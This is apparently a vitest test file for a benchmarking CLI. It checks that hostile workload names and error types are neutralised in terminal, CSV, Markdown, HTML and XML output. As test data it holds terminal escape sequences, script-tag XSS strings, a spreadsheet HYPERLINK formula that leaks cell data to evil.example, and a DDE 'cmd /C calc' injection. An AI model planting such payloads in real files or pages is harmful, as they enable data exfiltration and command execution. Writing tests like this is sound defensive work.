import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { gunzipSync } from 'node:zlib';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { runCli, tempDir } from '../_helpers.js';

// These spawn dist/: run `npm run build` first (npm test does).

/** C0 controls but tab and newline, DEL, C1 controls, bidi overrides. */
// eslint-disable-next-line no-control-regex -- what must never reach a terminal
const CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;
const NAME = 'evil\u001b]0;pwned\u0007\u001b[2J <script>alert(1)</script> @org/team #12';
const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")';
const CODE = "+cmd|' /C calc'!A0 @org/team \u001b[31m<script>x</script>";

/** A workload whose name, description and error types are hostile. */
function hostileWorkload(dir: string): string {
  const path = join(dir, 'hostile.mjs');
  writeFileSync(
    path,
    `export default {
  name: ${JSON.stringify(NAME)},
  description: ${JSON.stringify(`desc \u001b[31m\u202e <script>alert(2)</script> @org/team`)},
  call(i) {
    if (i % 3 === 1) return { success: false, errorType: ${JSON.stringify(FORMULA)} };
    if (i % 3 === 2) { const e = new Error('x'); e.code = ${JSON.stringify(CODE)}; throw e; }
  },
};\n`,
  );
  return path;
}

describe('data is neutralised where it is rendered', () => {
  it('terminal, CSV, Markdown, HTML: a hostile test name and error types stay inert', async () => {
    const dir = tempDir();
    const module = hostileWorkload(dir);
    const run = (out: string, extra: string[] = []) =>
      runCli(['run', module, '-n', '30', '-w', '0', '--no-history', '-o', out, ...extra]);
    const first = await run(join(dir, 'a'));
    expect(first.stderr).not.toContain('internal error');
    expect(first.code).toBe(1); // two thirds of the calls fail
    const second = await run(join(dir, 'b'), ['--baseline', join(dir, 'a')]);
    expect(second.code).toBe(1);
    const compared = await runCli([
      'compare',
      join(dir, 'a'),
      join(dir, 'b'),
      '-o',
      join(dir, 'c'),
    ]);
    expect(compared.code, compared.stderr).toBe(0);

    // Terminal: no escape sequence, no bidi override, whatever the data.
    for (const result of [first, second, compared]) {
      expect(result.stdout).not.toMatch(CONTROL);
      expect(result.stderr).not.toMatch(CONTROL);
    }
    expect(first.stdout).toContain('PERFORMANCE SUMMARY: evil\\x1b]0;pwned\\x07\\x1b[2J <script>');

    // CSV: formulas prefixed with ', numbers untouched, read back as they were.
    const csv = gunzipSync(readFileSync(join(dir, 'a', 'samples.csv.gz'))).toString('utf8');
    const rows = parse(csv, { columns: true }) as Array<Record<string, string>>;
    expect(rows).toHaveLength(30);
    for (const row of rows) {
      for (const cell of Object.values(row)) {
        if (/^[=+\-@\t\r]/.test(cell)) expect(Number.isFinite(Number(cell)), cell).toBe(true);
      }
    }
    expect(rows.map((r) => r.error_type)).toContain(`'${FORMULA}`);
    expect(rows.map((r) => r.error_type)).toContain(`'${CODE}`);
    const reread = await runCli([
      'report',
      join(dir, 'a', 'samples.csv.gz'),
      '--no-history',
      '--json',
      '-o',
      join(dir, 'r'),
    ]);
    const counts = (
      JSON.parse(reread.stdout) as { error_analysis: { error_counts: Record<string, number> } }
    ).error_analysis.error_counts;
    expect(counts).toEqual({ [FORMULA]: 10, [CODE]: 10 });

    // Markdown: no live mention or reference, no HTML, no control character.
    for (const file of [join(dir, 'a', 'report.md'), join(dir, 'b', 'comparison.md')]) {
      const md = readFileSync(file, 'utf8');
      expect(md).not.toMatch(CONTROL);
      expect(md).not.toMatch(/@org|#12/);
      expect(md).toContain('@&#8203;org/team');
      expect(md).not.toMatch(/(?<!\\)<script/i); // `\<` is Markdown for a literal <
    }
    expect(compared.stdout).not.toMatch(/@org/);

    // HTML and XML: escaped, never raw.
    for (const file of [
      join(dir, 'a', 'report.html'),
      join(dir, 'b', 'comparison.html'),
      join(dir, 'c', 'comparison.html'),
      join(dir, 'a', 'junit.xml'),
    ]) {
      const text = readFileSync(file, 'utf8');
      expect(text, file).not.toMatch(/<script>alert|<script>x/);
      expect(text, file).toMatch(/&lt;script&gt;/);
    }
  }, 120_000);
});
